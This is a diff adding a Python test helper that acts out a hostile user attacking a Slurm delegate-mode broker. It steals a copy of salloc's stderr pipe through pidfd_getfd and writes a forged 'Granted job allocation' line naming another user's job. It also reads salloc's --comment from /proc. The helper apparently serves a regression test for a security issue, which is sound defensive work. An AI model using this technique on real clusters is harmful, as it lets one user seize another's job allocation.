@@ -1,0 +1,85 @@
+"""What a hostile user does to a delegate-mode broker through the `salloc` the broker runs
+as them (issue 31 item 1); run as that user by tests/test_slurm_hostile.py from the staged
+world-readable copy. Prints one JSON line per step.
+
+    python slurm_attacker.py forge-grant JOB   take a copy of the pipe behind the stderr of our
+                                               own salloc (pidfd_getfd, as Debian's ptrace rules
+                                               allow for one's own processes), wait until salloc
+                                               has exited, then write "salloc: Granted job
+                                               allocation JOB" into it: the last word the broker
+                                               reads is another user's job
+    python slurm_attacker.py mark             print the --comment of our own salloc's command line
+                                               (what anyone can read in /proc)
+"""
+
+from __future__ import annotations
+
+import ctypes
+import json
+import os
+import select
+import sys
+import time
+
+SYS_PIDFD_GETFD = 438  # x86_64 and aarch64 alike
+WAIT_S = 30.0
+
+
+def say(**what: object) -> None:
+    print(json.dumps(what), flush=True)
+
+
+def our_salloc(timeout: float = WAIT_S) -> int:
+    """The pid of a salloc running as us (the broker starts it; we did not)."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        for entry in os.listdir("/proc"):
+            if not entry.isdigit():
+                continue
+            try:
+                status = open(f"/proc/{entry}/status").read()
+            except OSError:
+                continue
+            fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
+            if fields.get("Name") == "salloc" and int(fields["Uid"].split()[0]) == os.getuid():
+                return int(entry)
+        time.sleep(0.01)
+    raise SystemExit("no salloc of ours appeared")
+
+
+def steal_stderr(pid: int) -> tuple[int, int]:
+    """(pidfd, our copy of its fd 2)."""
+    pidfd = os.pidfd_open(pid)
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, 2, 0)
+    if fd < 0:
+        raise SystemExit(f"pidfd_getfd: {os.strerror(ctypes.get_errno())}")
+    return pidfd, fd
+
+
+def forge_grant(victim_job: str) -> None:
+    pid = our_salloc()
+    pidfd, fd = steal_stderr(pid)
+    say(holding=pid)
+    # salloc prints its own grant and exits; the pipe stays open while we hold our copy.
+    ready, _, _ = select.select([pidfd], [], [], WAIT_S)
+    if not ready:
+        raise SystemExit("our salloc did not exit")
+    os.write(fd, f"salloc: Granted job allocation {victim_job}\n".encode())
+    os.close(fd)
+    say(forged=victim_job)
+
+
+def mark() -> None:
+    pid = our_salloc()
+    argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
+    say(pid=pid, comment=next((a.split("=", 1)[1] for a in argv if a.startswith("--comment=")), ""))
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "forge-grant":
+        forge_grant(sys.argv[2])
+    elif sys.argv[1] == "mark":
+        mark()
+    else:
+        raise SystemExit(f"unknown attack {sys.argv[1]}")
